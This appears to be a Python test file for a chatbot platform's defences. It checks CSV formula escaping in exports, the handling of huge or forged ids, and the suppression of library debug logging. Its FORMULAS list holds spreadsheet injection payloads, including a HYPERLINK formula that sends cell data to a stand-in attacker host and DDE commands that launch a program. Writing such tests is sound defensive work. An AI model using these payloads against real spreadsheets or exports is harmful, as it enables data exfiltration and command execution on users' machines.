"""Hostile input that is not a dialog's answer: spreadsheet formulas in what is exported,
ids of absurd length typed or behind a forged button, and what the libraries would log at
DEBUG (message texts, user ids, link codes)."""

from __future__ import annotations

import csv
import io
import logging
from collections.abc import Callable, Iterator
from datetime import date
from decimal import Decimal

import pytest
from sqlmodel import Session

from bot.chatbot import ChatBot
from bot.commands import COMMANDS
from bot.errors import GENERIC
from bot.logs import configure_logging
from core.errors import NotFound
from core.export import export, to_csv
from core.listings import confirm_listing, create_listing, get_listing
from core.matchmaking import decide, get_match
from core.membership import decide_membership
from core.models.enums import OrganisationKind, Role
from core.partnerships import confirm, get_partnership
from core.people import Actor, create_organisation
from core.reporting import approve_report, reported, take_partnership
from core.storage import Database
from core.verification import approve
from core.vocabularies import Vocabularies
from tests.chat import Person, onboard
from tests.factories import need, person

# -- formulas in CSV exports -------------------------------------------------------------------

AUTHORITY = OrganisationKind.national_authority
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
)


def test_formulas_in_exported_titles_are_made_inert(db: Database, vocab: Vocabularies) -> None:
    with db.write() as s:
        organisation = create_organisation(
            s, vocab, name='=HYPERLINK("http://evil.example")', kind=AUTHORITY, country="KH"
        )
        owner = person(s, vocab, organisation_id=organisation.id)
        for title in FORMULAS:
            create_listing(s, vocab, owner, need(title=title, quantity=Decimal(40)))
    with db.read() as s:
        records = export(s, include_restricted=True)["needs"]
    rows = list(csv.DictReader(io.StringIO(to_csv(records))))
    assert sorted(row["title"] for row in rows) == sorted(f"'{title}" for title in FORMULAS)
    for row in rows:
        assert row["organisation"] == '\'=HYPERLINK("http://evil.example")'
        assert Decimal(row["quantity"]) == Decimal(row["remaining_quantity"]) == 40
        assert row["id"].isdecimal()


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1-1", "@A1", "\t=1+1", "\r=1+1", "-", "=", "@"])
def test_every_dangerous_first_character_is_escaped(text: str) -> None:
    [row] = csv.DictReader(io.StringIO(to_csv([{"name": text}])))
    assert row["name"] == f"'{text}"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-5, "-5"),
        (-2.5, "-2.5"),
        (Decimal("-1250.50"), "-1250.50"),
        (Decimal("40"), "40"),
        ("-1250.50", "-1250.50"),  # a decimal as export() gives it: text, but a number
        ("-7", "-7"),
        (0, "0"),
        (None, ""),
        ("Plain title", "Plain title"),
        ("a=b", "a=b"),
    ],
)
def test_numbers_and_plain_text_are_left_as_they_are(value: object, written: str) -> None:
    [row] = csv.DictReader(io.StringIO(to_csv([{"value": value}])))
    assert row["value"] == written


# -- ids of absurd length ----------------------------------------------------------------------

HUGE_IDS = {
    "20 digits": "9" * 20,
    "100,000 digits": "7" * 100_000,
    "over an integer column": "99999999999",  # fits 64 bits, not PostgreSQL's integer
    "over 64 bits": "9" * 19,
    "a superscript two": "²",  # a digit to str.isdigit(), not to int()
    "a hash and 20 digits": "#" + "9" * 20,
}
ID_COMMANDS = [c for c in COMMANDS if "N" in c.args]


class AdminSettings:
    default_language = "en"
    admin_identities = {("console", "", "hostile-admin")}
    require_verification = False
    match_threshold = 0.0
    weights = None


@pytest.fixture
def admin(db: Database, vocab: Vocabularies) -> Person:
    """A registered admin (so a coordinator too): every command reaches its id."""
    someone = Person(ChatBot(db, vocab, AdminSettings()), "hostile-admin")
    onboard(someone, organisation="Hostile Unit", kind="Intergovernmental organisation")
    return someone


def _arguments(args: str, digits: str) -> list[str]:
    """The arguments to try: the id alone, or after each kind the command names."""
    kinds = [part.split()[0] for part in args.split("|") if len(part.split()) == 2]
    return [f"{kind} {digits}" for kind in kinds] or [digits]


def test_every_command_taking_an_id_is_listed() -> None:
    names = {c.name for c in ID_COMMANDS}
    assert {"edit", "match", "partnership", "take", "history", "verify_ok", "member_ok"} <= names


def _typed_and_pressed(someone: Person, name: str, args: str) -> list[str]:
    """What the command answers, typed and behind a (forged) button."""
    answers = []
    for token in (None, f"c:{name}:{args}"):
        someone.press(token) if token else someone.command(name, args)
        answers.append(someone.text)
        someone.command("cancel")  # whatever it opened is closed again
    return answers


@pytest.mark.parametrize("case", list(HUGE_IDS))
def test_huge_ids_are_ids_that_name_nothing(admin: Person, case: str) -> None:
    digits = HUGE_IDS[case]
    for command in ID_COMMANDS:
        for args in _arguments(command.args, digits):
            for text in _typed_and_pressed(admin, command.name, args):
                assert str(GENERIC) not in text, (command.name, case)
                if digits.lstrip("#").isascii():
                    assert "I could not find" in text, (command.name, case, text[:300])


@pytest.mark.parametrize("case", list(HUGE_IDS))
def test_ids_that_commands_take_without_declaring_them(admin: Person, case: str) -> None:
    """A report button names a partnership and a due date; a coordinator may name an
    organisation."""
    digits = HUGE_IDS[case]
    for name, args in (
        ("report", f"{digits}@2030-01-01"),
        ("report", f"{digits}@{'9' * 5000}"),
        ("organisation", digits),
    ):
        for text in _typed_and_pressed(admin, name, args):
            assert str(GENERIC) not in text, (name, case, text[:300])


OUT_OF_RANGE = (0, -1, 2**31, 10**19, 10**20)


def _lookups(session: Session, boss: Actor) -> dict[str, Callable[[int], object]]:
    """The use cases an id typed in a chat reaches, by name."""
    return {
        "get_listing": lambda i: get_listing(session, i),
        "confirm_listing": lambda i: confirm_listing(session, boss, i),
        "get_match": lambda i: get_match(session, i, for_update=True),
        "decide": lambda i: decide(session, boss, i, accept=True),
        "get_partnership": lambda i: get_partnership(session, i),
        "confirm": lambda i: confirm(session, boss, i),
        "take_partnership": lambda i: take_partnership(session, boss, i),
        "approve_report": lambda i: approve_report(session, boss, i),
        "decide_membership": lambda i: decide_membership(session, boss, i, approve=True),
        "approve": lambda i: approve(session, boss, i),
    }


@pytest.mark.parametrize("value", OUT_OF_RANGE)
def test_core_finds_nothing_for_an_id_no_row_can_have(
    db: Database, vocab: Vocabularies, value: int
) -> None:
    with db.write() as s:
        boss = person(s, vocab, roles=(Role.coordinator,))
        names = list(_lookups(s, boss))
    for name in names:  # each in its own transaction: PostgreSQL's is over after an error
        with db.write() as s, pytest.raises(NotFound):
            _lookups(s, boss)[name](value)
    with db.read() as s:
        assert reported(s, value, date(2030, 1, 1)) is None


# -- what the libraries log --------------------------------------------------------------------

LIBRARY_LOGGERS = ("telegram.ext", "httpx", "httpcore", "slack_sdk.web", "slack_bolt.AsyncApp")


@pytest.fixture
def logs(capsys: pytest.CaptureFixture[str]) -> Iterator[pytest.CaptureFixture[str]]:
    """configure_logging changes the process's loggers: put them back afterwards."""
    root = logging.getLogger()
    saved = root.handlers[:], root.level
    names = [*logging.root.manager.loggerDict, *LIBRARY_LOGGERS]
    levels = {name: logging.getLogger(name).level for name in names}
    yield capsys
    root.handlers[:], root.level = saved
    for name, level in levels.items():
        logging.getLogger(name).setLevel(level)


def _emitted(capsys: pytest.CaptureFixture[str], name: str) -> bool:
    capsys.readouterr()
    logging.getLogger(name).debug("text of a message: link code 483-112 from user 9876")
    return "link code 483-112" in capsys.readouterr().err


@pytest.mark.parametrize("name", LIBRARY_LOGGERS)
def test_libraries_stay_at_info_when_the_bot_logs_debug(
    logs: pytest.CaptureFixture[str], name: str
) -> None:
    configure_logging("DEBUG", [], library_level="INFO")
    assert _emitted(logs, "bot.chatbot")
    assert not _emitted(logs, name)


def test_a_library_logger_made_later_stays_quiet_too(logs: pytest.CaptureFixture[str]) -> None:
    """Bolt gives the loggers it makes the root's level (DEBUG): the handler still drops
    their debug records."""
    from slack_bolt.logger import get_bolt_logger

    configure_logging("DEBUG", [], library_level="INFO")
    get_bolt_logger(type("LaterApp", (), {}))
    assert logging.getLogger("slack_bolt.LaterApp").level == logging.DEBUG
    assert not _emitted(logs, "slack_bolt.LaterApp")


@pytest.mark.parametrize("name", LIBRARY_LOGGERS)
def test_libraries_log_debug_when_asked_to(logs: pytest.CaptureFixture[str], name: str) -> None:
    configure_logging("DEBUG", [], library_level="DEBUG")
    assert _emitted(logs, name)
    assert _emitted(logs, "bot.chatbot")


def test_the_database_engine_does_not_start_writing_statements(
    logs: pytest.CaptureFixture[str],
) -> None:
    """SQLAlchemy's engine writes every statement and its parameters at INFO."""
    import sqlalchemy  # noqa: F401  (sets its own loggers to WARNING)

    configure_logging("DEBUG", [], library_level="INFO")
    assert not logging.getLogger("sqlalchemy.engine.Engine").isEnabledFor(logging.INFO)


def test_the_library_level_never_makes_libraries_louder_than_the_bot(
    logs: pytest.CaptureFixture[str],
) -> None:
    configure_logging("WARNING", [], library_level="INFO")
    logs.readouterr()
    logging.getLogger("telegram.ext").info("polling started for user 9876")
    assert "user 9876" not in logs.readouterr().err
